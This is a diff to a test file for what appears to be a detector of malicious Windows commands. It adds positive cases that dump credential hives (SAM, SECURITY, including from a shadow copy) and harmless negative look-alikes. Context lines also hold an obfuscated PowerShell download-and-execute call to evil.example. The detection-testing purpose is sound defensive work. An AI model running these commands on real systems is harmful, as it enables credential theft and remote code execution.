@@ -201,6 +201,14 @@ const POSITIVE: readonly (readonly [string, string, string])[] = [
     'windows.lolbin-exec',
     'critical',
   ],
+  // The SAM, SECURITY and SYSTEM hives read as files.
+  ['Get-Content C:\\Windows\\System32\\config\\SAM', 'windows.credential-dump', 'high'],
+  ['type %SystemRoot%\\repair\\sam', 'windows.credential-dump', 'high'],
+  [
+    'copy \\\\?\\GLOBALROOT\\Device\\HarddiskVolumeShadowCopy2\\Windows\\System32\\config\\SECURITY C:\\x\\',
+    'windows.credential-dump',
+    'high',
+  ],
   // The format operator builds the command's name from pieces.
   [
     "& (\"{1}{0}\" -f 'x','ie') (iwr http://evil.example/a.ps1 -UseBasicParsing).Content",
@@ -289,6 +297,8 @@ const NEGATIVE: readonly (readonly [string, string | null])[] = [
   ['reg add HKCU\\Environment /v Path /d "C:\\tools;%PATH%" /f', null],
   ["Write-Host ('{0} files in {1}' -f $n, $dir)", null],
   ['msbuild MyApp.sln /p:Configuration=Release /m', null],
+  ['dir C:\\Windows\\System32\\config\\systemprofile', null],
+  ['Get-Item C:\\Windows\\System32\\config\\SYSTEM.LOG1 | Select-Object Length', null],
   ['esentutl /y C:\\db\\app.edb /d D:\\backup\\app.edb', null],
   ['forfiles /p C:\\logs /s /m *.log /d -30 /c "cmd /c del @path"', null],
   ['hh.exe C:\\Windows\\Help\\mmc.chm', null],
